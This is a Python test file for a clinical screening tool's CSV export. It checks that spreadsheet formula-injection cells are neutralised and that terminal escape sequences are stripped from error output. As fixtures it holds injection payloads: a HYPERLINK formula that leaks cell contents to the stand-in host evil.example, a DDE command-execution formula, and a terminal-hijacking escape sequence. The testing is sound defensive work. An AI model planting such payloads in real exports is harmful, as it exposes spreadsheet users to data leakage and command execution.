"""Issue 27 §4: every CSV the product writes is safe to open in a spreadsheet. A text cell starting with
= + - @ tab or CR gets a leading ' (OWASP), unless it is a plain number; ``osteo sql --raw`` writes cells as
stored; JSON and Parquet are unchanged."""

import csv
import io
import json

import polars as pl
import pytest
from conftest import screen_synthetic, write_synthetic
from hypothesis import given, settings
from hypothesis import strategies as st

from osteo_core.cli import main
from osteo_core.outputs import csv_safety, measure_list
from osteo_core.outputs.csv_safety import RISKY_START, is_plain_number, neutralise, safe_frame
from osteo_core.outputs.render import write_frame

PATIENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # a patient id (and roster pcp_id) from an export
CLINIC = "@SUM(1+1)"
NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BY = "=cmd|' /C calc'!A0"
QUARANTINED = {"femoral_neck_t": "-9.9", "spine_t": "-1.5e3", "total_hip_t": "=1+2"}
ESCAPE_CLINIC = "\x1b]0;owned\x07\x1b[2Jclinic-esc"  # a roster cell that retitles and clears a terminal


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (BY, "'" + BY),
        ("-", "'-"),  # a sign alone is no number
        ("-inf", "'-inf"),  # a spreadsheet reads these as formulas (#NAME?), not numbers
        ("-nan", "'-nan"),
        ("+Infinity", "'+Infinity"),
        ("-1,5", "'-1,5"),
        ("-0x1F", "'-0x1F"),
        ("-9.9 ", "'-9.9 "),
        ("-9.9\n", "'-9.9\n"),
        ("-٣", "'-٣"),  # another script's digit: not a number to a spreadsheet
        ("-9.9", "-9.9"),  # plain numbers, e.g. a quarantined value, as they are
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("-1.5E-3", "-1.5E-3"),
        ("-.5", "-.5"),
        ("-5.", "-5."),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),
        ("", ""),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written
    assert safe_frame(pl.DataFrame({"c": [cell]}, schema={"c": pl.Utf8})).item() == written  # the Polars path too


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from([*RISKY_START, *"0123456789.eE+-' x\n٣"]) | st.characters(exclude_categories=["Cs"])))
def test_a_cell_is_kept_or_quoted_exactly_when_risky(text):
    risky = text[:1] in tuple(RISKY_START) and not is_plain_number(text)
    assert neutralise(text) == ("'" + text if risky else text)
    assert safe_frame(pl.DataFrame({"c": [text]}, schema={"c": pl.Utf8})).item() == neutralise(text)


@settings(max_examples=200, deadline=None)
@given(
    st.from_regex(csv_safety.PLAIN_NUMBER, fullmatch=True) | st.floats(allow_nan=False, allow_infinity=False).map(repr)
)
def test_plain_numbers_are_never_changed(number):
    assert is_plain_number(number) and neutralise(number) == number


def test_only_text_columns_and_names_change_and_only_in_csv():
    import datetime as dt

    frame = pl.DataFrame(
        {
            "t_score": [-2.7],
            "delta": [-3],
            "day": [dt.date(2026, 1, 1)],
            "ok": [True],
            "code": pl.Series(["=A1"], dtype=pl.Categorical),
            "as_number_text": ["-9.9"],
            "=name": ["x"],
            "list": [["=a", "-b"]],
        }
    )
    piped = io.StringIO()
    write_frame(frame, "csv", stream=piped)
    rows = list(csv.reader(io.StringIO(piped.getvalue())))
    assert rows[0] == ["t_score", "delta", "day", "ok", "code", "as_number_text", "'=name", "list"]
    assert rows[1] == ["-2.7", "-3", "2026-01-01", "true", "'=A1", "-9.9", "x", '["=a", "-b"]']  # JSON text: '['
    # JSON and Parquet as stored
    frame = pl.DataFrame({"note": [NOTE], "by": [BY]})
    piped = io.StringIO()
    write_frame(frame, "json", stream=piped)
    assert json.loads(piped.getvalue()) == frame.to_dicts()
    binary = io.BytesIO()
    write_frame(frame, "parquet", stream=binary)
    assert pl.read_parquet(io.BytesIO(binary.getvalue())).equals(frame)


# through the commands, on a published run whose inputs hold formulas ------------------------------------


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    """A synthetic run plus: a patient whose id (and roster pcp_id) is a formula, with an open gap; three
    quarantined values (two plain numbers, one formula); a worklist mark with a formula note and by; and a roster
    patient whose clinic holds terminal escape sequences."""
    folder = tmp_path_factory.mktemp("csv_safety")
    paths = write_synthetic(folder, 40, seed=27, roster=True)
    scans = pl.read_csv(paths["scans"], infer_schema=False)
    first = scans.row(0, named=True)
    extra = [{**first, "patient_id": PATIENT, "exam_id": "=E1", "exam_date": "2024-01-10", "femoral_neck_t": "-2.7"}]
    extra += [{**first, "patient_id": f"Q{n}", "exam_id": f"Q{n}", column: value} for n, (column, value) in
              enumerate(QUARANTINED.items())]  # fmt: skip
    pl.concat([scans, pl.DataFrame(extra, schema=scans.schema)]).write_csv(paths["scans"])
    roster = pl.read_csv(paths["population"], infer_schema=False)
    evil = {**roster.row(0, named=True), "patient_id": PATIENT, "pcp_id": PATIENT, "clinic": CLINIC}
    escaping = {**roster.row(0, named=True), "patient_id": "PESC1", "pcp_id": "pcp-esc", "clinic": ESCAPE_CLINIC}
    pl.concat([roster, pl.DataFrame([evil, escaping], schema=roster.schema)]).write_csv(paths["population"])
    screen_synthetic(paths, folder / "out", "2026-07-01")
    marked = ["worklist", "mark", PATIENT, "untreated_high_risk", "--status", "contacted", "--note", NOTE, "--by", BY]
    assert main([*marked, "--out", str(folder / "out")]) == 0
    return folder / "out"


def _csv(capsys, *args: str) -> list[list[str]]:
    capsys.readouterr()
    assert main(list(args)) == 0
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


def _all_safe(rows: list[list[str]]) -> bool:
    return all(cell[:1] not in tuple(RISKY_START) or is_plain_number(cell) for row in rows for cell in row)


def test_gaps_csv(out, capsys):
    """Before: the patient id came out as ``=HYPERLINK(…)`` and ran when the list was opened."""
    for args in (["--format", "csv"], []):  # without --format, to a pipe: CSV too
        rows = _csv(capsys, "gaps", "--out", str(out), *args)
        assert _all_safe(rows) and ["'" + PATIENT, "untreated_high_risk"] in [r[:2] for r in rows]


def test_worklist_csv(out, capsys):
    for args in (["--format", "csv"], []):
        rows = _csv(capsys, "worklist", "--out", str(out), *args)
        header = rows[0]
        ours = [dict(zip(header, r, strict=True)) for r in rows[1:] if r[header.index("patient_id")] == "'" + PATIENT]
        assert _all_safe(rows) and ours
        assert all(r["pcp_id"] == "'" + PATIENT and r["clinic"] == "'" + CLINIC for r in ours)
        assert all(r.get("outreach_note", "'" + NOTE) == "'" + NOTE for r in ours)
        assert all(r.get("outreach_by", "'" + BY) == "'" + BY for r in ours)


def test_sql_csv_and_raw(out, capsys):
    query = "SELECT note, marked_by FROM outreach"
    for args in (["--format", "csv"], []):
        assert _csv(capsys, "sql", "--out", str(out), *args, query) == [["note", "marked_by"], ["'" + NOTE, "'" + BY]]
    for args in (["--format", "csv", "--raw"], ["--raw"]):  # as stored, for pipelines
        assert _csv(capsys, "sql", "--out", str(out), *args, query) == [["note", "marked_by"], [NOTE, BY]]


def test_sql_leaves_numbers_and_numeric_text_as_they_are(out, capsys):
    values = "SELECT value FROM quarantine WHERE patient_id LIKE 'Q%' ORDER BY source_row"
    assert _csv(capsys, "sql", "--out", str(out), "--format", "csv", values) == [
        ["value"], ["-9.9"], ["-1.5e3"], ["'=1+2"]
    ]  # fmt: skip
    t_scores = "SELECT lowest_t_score FROM screening WHERE lowest_t_score < 0 ORDER BY lowest_t_score LIMIT 3"
    numbers = [r[0] for r in _csv(capsys, "sql", "--out", str(out), "--format", "csv", t_scores)[1:]]
    assert numbers and all(n.startswith("-") and float(n) < 0 for n in numbers)


@pytest.mark.parametrize(
    ("query", "kept"),
    [
        (r"SELECT clinic::INT FROM population WHERE starts_with(clinic, chr(27))", "Could not convert string '…'"),
        ("SELECT clinic::DATE FROM population WHERE starts_with(clinic, chr(27))", 'invalid date field format: "…"'),
        ("SELECT clinic::INT FROM population WHERE starts_with(clinic, '@')", "Could not convert string '…'"),
        # the formula holds double quotes: all of it is hidden, not just up to its first quote
        ("SELECT pcp_id::DECIMAL(3, 1) FROM population WHERE starts_with(pcp_id, '=')", 'string "…" to DECIMAL'),
        ("SELECT note::INT FROM outreach", "Could not convert string '…' to INT32"),
    ],
)
def test_a_sql_error_shows_no_cell_and_no_control_character(out, capsys, query, kept):
    """Before: ``Conversion Error: Could not convert string '<ESC>]0;owned…' to INT32`` reached the terminal,
    the roster's cell and its escape sequences raw."""
    assert main(["sql", "--out", str(out), query]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("osteo: SQL error: Conversion Error: ") and kept in err, err
    assert not any(cell in err for cell in (ESCAPE_CLINIC, "owned", "clinic-esc", CLINIC, PATIENT, "evil", NOTE))
    assert "\x1b" not in err and "\x07" not in err


def test_sql_error_escapes_what_it_keeps(out, capsys):
    """A name the query writes is kept, its control characters escaped (not a cell: the user's own text)."""
    query = 'SELECT "a\x1b[2Jb"::INT FROM (SELECT clinic AS "a\x1b[2Jb" FROM population)'
    assert main(["sql", "--out", str(out), query]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "source column a\\x1b[2Jb" in err and "\x1b" not in err


@pytest.mark.parametrize(
    ("names", "header"),
    [
        (["=x", "'=x"], ["'=x_1", "'=x"]),  # before: =x left unquoted, as '=x was taken
        (["'=x", "=x", "'=x_1"], ["'=x", "'=x_2", "'=x_1"]),
        (["+1", "+a", "'+a", "@a", "'@a"], ["+1", "'+a_1", "'+a", "'@a_1", "'@a"]),  # +1: a plain number
    ],
)
def test_a_header_is_safe_even_when_the_safe_name_is_taken(out, capsys, names, header):
    query = "SELECT " + ", ".join(f"'v{n}' AS \"{name}\"" for n, name in enumerate(names))
    rows = _csv(capsys, "sql", "--out", str(out), "--format", "csv", query)
    assert rows == [header, [f"v{n}" for n in range(len(names))]] and _all_safe(rows)
    assert _csv(capsys, "sql", "--out", str(out), "--raw", query)[0] == names  # --raw: names as stored


def test_measures_csv(out, capsys, monkeypatch):
    rows = _csv(capsys, "measures", "--out", str(out), "--format", "csv")
    assert rows[0][0] == "measure" and _all_safe(rows)
    # a measure name is the product's own, never an input's; should one ever start with = it is neutralised
    real = measure_list.load_summary
    monkeypatch.setattr(
        measure_list, "load_summary", lambda *a, **k: real(*a, **k).with_columns(pl.lit("=1+1").alias("measure"))
    )
    rows = _csv(capsys, "measures", "--out", str(out), "--format", "csv")
    assert {r[0] for r in rows[1:]} == {"'=1+1"}


def test_sql_help_and_readme_name_the_rule():
    from pathlib import Path

    from osteo_core.cli.parser import build_parser

    sub = next(a for a in build_parser()._actions if hasattr(a, "choices") and a.choices and "sql" in a.choices)
    help_text = " ".join(sub.choices["sql"].format_help().split())
    assert "--raw" in help_text and "exactly as stored" in help_text
    readme = " ".join((Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8").split())
    assert "osteo sql --raw" in readme and "prefixed with `'`" in readme
